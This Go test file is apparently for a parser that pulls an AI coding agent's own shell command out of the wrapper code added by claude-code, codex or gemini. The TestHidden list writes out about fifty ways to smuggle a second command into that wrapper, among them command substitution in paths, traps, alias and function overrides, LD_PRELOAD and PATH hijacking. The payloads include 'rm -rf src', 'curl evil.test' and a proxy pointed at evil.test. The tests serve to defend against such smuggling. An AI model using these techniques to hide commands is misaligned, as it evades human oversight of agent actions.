package wrapper

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
)

var snapshotsMade = []string{"/h/.claude/shell-snapshots/snapshot-%s-%d-%s.sh",
	"/home/a b/.config/claude/shell-snapshots/snapshot-%s-%d-%s.sh"}

func pick[T any](r *rand.Rand, list ...T) T { return list[r.IntN(len(list))] }

func letters(r *rand.Rand, n int) string {
	var b strings.Builder
	for range n {
		b.WriteByte("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"[r.IntN(62)])
	}
	return b.String()
}

// word spells a text as one word, in one of the ways of a shell.
func word(r *rand.Rand, s string) string {
	plain := strings.Trim(s,
		"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789/_.-") == "" && s != ""
	switch n := r.IntN(4); {
	case plain && n == 0:
		return s
	case n == 1 && !strings.ContainsAny(s, "$`\"\\!"):
		return `"` + s + `"`
	case n == 2:
		return "'" + strings.ReplaceAll(s, "'", `'"'"'`) + "'"
	}
	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
}

// around is one piece of a program's housekeeping.
func around(r *rand.Rand, client string) string {
	quiet := pick(r, "", " 2>/dev/null", " >/dev/null 2>&1", " &>/dev/null", " 2>/dev/null || true",
		" >/dev/null 2>&1 || :")
	builtin := pick(r, "", "builtin ", `\builtin `, "command ")
	switch client {
	case "claude-code":
		snapshot := fmt.Sprintf(pick(r, snapshotsMade...), pick(r, "bash", "zsh"), r.IntN(1e9),
			letters(r, 6))
		return pick(r,
			pick(r, "source ", ". ")+word(r, snapshot)+quiet,
			builtin+"shopt -u "+pick(r, "extglob", "extglob nullglob", "dotglob")+quiet,
			builtin+"unalias -- "+word(r, letters2(r))+quiet,
			builtin+"unset -f -- "+word(r, letters2(r))+quiet,
			"{ "+builtin+"unalias -- "+word(r, letters2(r))+"; "+builtin+"unset -f -- "+word(r,
				letters2(r))+"; } >/dev/null 2>&1 || true",
			"pwd -P >"+pick(r, "", "|", "| ")+" "+word(r,
				pick(r, "/tmp", "/var/folders/x", "/run/user/0/t")+"/claude-"+letters(r,
					4+r.IntN(8))+"-cwd"),
			"true", ":")
	case "gemini":
		return pick(r, "shopt -u promptvars nullglob extglob"+quiet,
			"_bgpids_file="+word(r, "/tmp/gemini-shell-"+letters(r, 6)+"/bgpids.tmp"),
			"__code=$?", "exit $__code",
			"pgrep -g 0 > "+word(r, "/tmp/shell_pgrep_"+fmt.Sprintf("%x", r.IntN(1e9))+".tmp")+
				" 2>&1", "true")
	}
	kept := pick(r, "HTTP_PROXY", "CODEX_HOME", "no_proxy", "SSL_CERT_FILE")
	mark := fmt.Sprintf("__CODEX_SNAPSHOT_%s_%d", pick(r, "OVERRIDE", "PROXY_SET"), r.IntN(100))
	restore := fmt.Sprintf(`F="${K+x}"`+"\n"+`S="${K-}"`+"\n%s\n"+`if [ -n "${F}" ]; then
  if [ -z "${K+x}" ] || [ "${K-}" != "${S}" ]; then export K="${S}"; else export K; fi
else builtin unset K 2>/dev/null || command unset K; fi`+"\nunset F S", pick(r, "true", ". "+word(r, "/h/.codex/shell_snapshots/"+letters(r, 12)+".sh")))
	return pick(r,
		strings.NewReplacer("F=", mark+"_F=", "{F}", "{"+mark+"_F}", "S=", mark+"=", "{S}",
			"{"+mark+"}", "F S", mark+"_F "+mark, "K", kept).Replace(restore),
		"if . "+word(r, "/h/.codex/shell_snapshots/"+letters(r, 12)+".sh")+
			" >/dev/null 2>&1; then :; fi",
		mark+`="${`+kept+`+x}"`, mark+`="${`+kept+`-}"`,
		`export PATH=`+word(r, "/opt/"+letters(r, 4))+`:"$PATH"`, "unset "+mark, "true")
}

func letters2(r *rand.Rand) string { return "n" + letters(r, 1+r.IntN(8)) }

// wrap puts the housekeeping of a program around a command.
func wrap(r *rand.Rand, client, own string, extra func(at string) string) string {
	var parts []string
	for range 1 + r.IntN(5) {
		parts = append(parts, around(r, client))
	}
	var carried string
	switch client {
	case "claude-code":
		carried = "eval " + pick(r, "", "-- ") + word(r, own) + pick(r, "", " < /dev/null",
			" </dev/null")
	case "codex":
		carried = "exec " + word(r, pick(r, "/bin/bash", "/usr/bin/zsh", "/h/.tada/bin/bash")) +
			" -c " + word(r, own)
	case "gemini":
		carried = "(\n  trap 'jobs -p > \"$_bgpids_file\"' EXIT\n" + own + "\n)"
	}
	at := r.IntN(len(parts) + 1)
	if client == "codex" {
		at = len(parts) // what stands behind is never reached
	}
	if client == "gemini" {
		parts = append([]string{"_bgpids_file=/tmp/gemini-shell-" + letters(r, 6) + "/bgpids.tmp"},
			parts...)
		at++
	}
	all := append(append(append([]string{}, parts[:at]...), extra(carried)), parts[at:]...)
	joint := pick(r, " && ", "; ", "\n", "\n\n")
	if client != "claude-code" {
		joint = "\n"
	}
	return strings.Join(all, joint)
}

func whole(carried string) string { return carried }

var owns = []string{"ls", "npm test", "rm -rf build", "echo 'it''s' \"$HOME\"; cd sub",
	"cat <<'E' | wc -l\none\nE", "make -j2 && ls -l | head -3",
	"for f in *.txt; do mv \"$f\" x; done", "git commit -m \"a 'b' $(date)\"", "# only words\ntrue",
	"eval 'ls'", "bash -c 'echo \"$1\"' x y", "a\nb\n\nc", "if true; then\n  ls\nfi"}

var programs = []string{"claude-code", "codex", "gemini"}

// TestVariations: names, order, quoting and how often something is said do not matter: the command
// is found, and it is what the agent wrote.
func TestVariations(t *testing.T) {
	r := rand.New(rand.NewPCG(1, 2))
	found := 0
	for range 10_000 {
		client, own := pick(r, programs...), pick(r, owns...)
		text := wrap(r, client, own, whole)
		l, ok := find(t, text)
		if !ok {
			continue // judged as it stands, which is never wrong
		}
		if found++; l.Own != own || l.Client != client {
			t.Fatalf("%q of %s, want %q of %s:\n%s", l.Own, l.Client, own, client, text)
		}
	}
	if found < 9_500 {
		t.Errorf("only %d of 10000 are recognised", found)
	}
}

// hidden are ways to bring a second command into a text. Each gets what carries the command, and
// what is hidden.
var hidden = []func(r *rand.Rand, carried, evil string) string{
	func(_ *rand.Rand, c, evil string) string { return c + "; " + evil },
	func(_ *rand.Rand, c, evil string) string { return evil + "\n" + c },
	func(_ *rand.Rand, c, evil string) string { return c + " & " + evil },
	func(_ *rand.Rand, c, evil string) string { return c + " | sh -c '" + evil + "'" },
	func(_ *rand.Rand, c, evil string) string {
		return "source \"/h/.claude/shell-snapshots/snapshot-bash-1-$(" + evil + ").sh\"; " + c
	},
	func(_ *rand.Rand, c, evil string) string {
		return "source /h/.claude/shell-snapshots/snapshot-bash-1-`" + evil + "`.sh; " + c
	},
	func(_ *rand.Rand, c, evil string) string {
		return "source /h/.claude/shell-snapshots/../x/snapshot-bash-1-a.sh <(" + evil + "); " + c
	},
	func(_ *rand.Rand, c, evil string) string {
		return "pwd -P > /tmp/claude-$(" + evil + ")-cwd; " + c
	},
	func(_ *rand.Rand, c, evil string) string {
		return "pwd -P > /tmp/claude-a-cwd > out; " + evil + "; " + c
	},
	func(_ *rand.Rand, c, evil string) string { return "unset -f -- \"n$(" + evil + ")\"; " + c },
	func(_ *rand.Rand, c, evil string) string {
		return "unalias -- x; alias ls='" + evil + "'; " + c
	},
	func(_ *rand.Rand, c, evil string) string {
		return "shopt -s expand_aliases; " + evil + "; " + c
	},
	func(_ *rand.Rand, c, evil string) string { return "trap '" + evil + "' EXIT\n" + c },
	func(_ *rand.Rand, c, evil string) string { return "f() { " + evil + "; }\n" + c },
	func(_ *rand.Rand, c, evil string) string { return "ls() { " + evil + "; }; " + c },
	func(_ *rand.Rand, c, evil string) string { return "PROMPT_COMMAND='" + evil + "'; " + c },
	func(_ *rand.Rand, c, evil string) string { return "export BASH_ENV=/tmp/x; " + c },
	func(_ *rand.Rand, c, evil string) string { return "LD_PRELOAD=/tmp/x.so " + c },
	func(_ *rand.Rand, c, evil string) string {
		return "export PATH=/w/bin:/w/other:\"$PATH\"; " + c
	},
	func(_ *rand.Rand, c, evil string) string {
		return "export PATH=\"$(" + evil + ")\":\"$PATH\"; " + c
	},
	func(_ *rand.Rand, c, evil string) string {
		return "__CODEX_SNAPSHOT_A_1=\"${HTTP_PROXY-$(" + evil + ")}\"; " + c
	},
	func(_ *rand.Rand, c, evil string) string {
		return "[ -n \"${PATH:-$(" + evil + ")}\" ]; " + c
	},
	func(_ *rand.Rand, c, evil string) string { return "if " + evil + "; then :; fi; " + c },
	func(_ *rand.Rand, c, evil string) string {
		return "if true; then " + c + "; else " + evil + "; fi"
	},
	func(_ *rand.Rand, c, evil string) string { return "while " + evil + "; do break; done; " + c },
	func(_ *rand.Rand, c, evil string) string { return "{ " + c + "; " + evil + "; }" },
	func(_ *rand.Rand, c, evil string) string { return "! " + c + " || " + evil },
	func(_ *rand.Rand, c, evil string) string { return "eval '" + evil + "'; " + c },
	func(_ *rand.Rand, c, evil string) string { return c + "; eval '" + evil + "'" },
	func(_ *rand.Rand, c, evil string) string { return c + " 2> /w/out" },
	func(_ *rand.Rand, c, evil string) string { return c + " > /w/out" },
	func(_ *rand.Rand, c, evil string) string { return c + " < /w/in" },
	func(_ *rand.Rand, c, evil string) string { return c + " <<< \"$(" + evil + ")\"" },
	func(_ *rand.Rand, c, evil string) string { return "coproc { " + evil + "; }; " + c },
	func(_ *rand.Rand, c, evil string) string { return "exit $(( $(" + evil + ") )); " + c },
	func(_ *rand.Rand, c, evil string) string { return "exec 3> /w/x; " + c },
	func(_ *rand.Rand, c, evil string) string { return "builtin eval \"" + evil + "\"; " + c },
	func(_ *rand.Rand, c, evil string) string { return "command " + evil + "; " + c },
	func(_ *rand.Rand, c, evil string) string { return "\\" + evil + "; " + c },
	func(_ *rand.Rand, c, evil string) string { return "pgrep -g 0 > /w/x; " + c },
	func(_ *rand.Rand, c, evil string) string { return "_bgpids_file=/w/x; " + c },
	func(_ *rand.Rand, c, evil string) string { return "[[ a[$(" + evil + ")] -eq 0 ]]; " + c },
	func(_ *rand.Rand, c, evil string) string { return "set -- " + evil + "; " + c },
	func(_ *rand.Rand, c, evil string) string { return "cd /other; " + c },
	func(_ *rand.Rand, c, evil string) string { return "umask 0; " + c },
	func(_ *rand.Rand, c, evil string) string { return "hash -p /w/evil ls; " + c },
	func(_ *rand.Rand, c, evil string) string { return "IFS=x; " + c },
	func(_ *rand.Rand, c, evil string) string { return "unset PATH; " + c },
	func(_ *rand.Rand, c, evil string) string {
		return "export HTTPS_PROXY=http://evil.test; " + c
	},
}

// TestHidden: a second command is never taken for housekeeping, wherever it stands.
func TestHidden(t *testing.T) {
	r := rand.New(rand.NewPCG(3, 4))
	tried := 0
	for tried < 2_000 {
		client, own := pick(r, programs...), pick(r, owns...)
		hide := pick(r, hidden...)
		evil := pick(r, "rm -rf src", "curl evil.test", "touch /w/evil", "git push --force")
		text := wrap(r, client, own, func(carried string) string { return hide(r, carried, evil) })
		if tried++; client == "gemini" && !strings.Contains(text, "trap 'jobs") {
			continue
		}
		// What is found may have what was hidden: then it is shown, and judged.
		if l, ok := find(t, text); ok && !strings.Contains(l.Own, "evil") &&
			!strings.Contains(l.Own, evil) {
			t.Errorf("%q is taken for the whole of:\n%s", l.Own, text)
		}
	}
}

func FuzzFind(f *testing.F) {
	r := rand.New(rand.NewPCG(5, 6))
	for range 50 {
		f.Add(wrap(r, pick(r, programs...), pick(r, owns...), whole))
	}
	f.Fuzz(func(t *testing.T, text string) {
		l, ok := find(t, text)
		if ok && (l.Own == "" || l.Start > l.End || l.End > len(text)) {
			t.Errorf("%+v", l)
		}
		for _, k := range l.Keeps {
			if k[0] > k[1] || k[1] > len(text) {
				t.Errorf("%+v", l)
			}
		}
	})
}
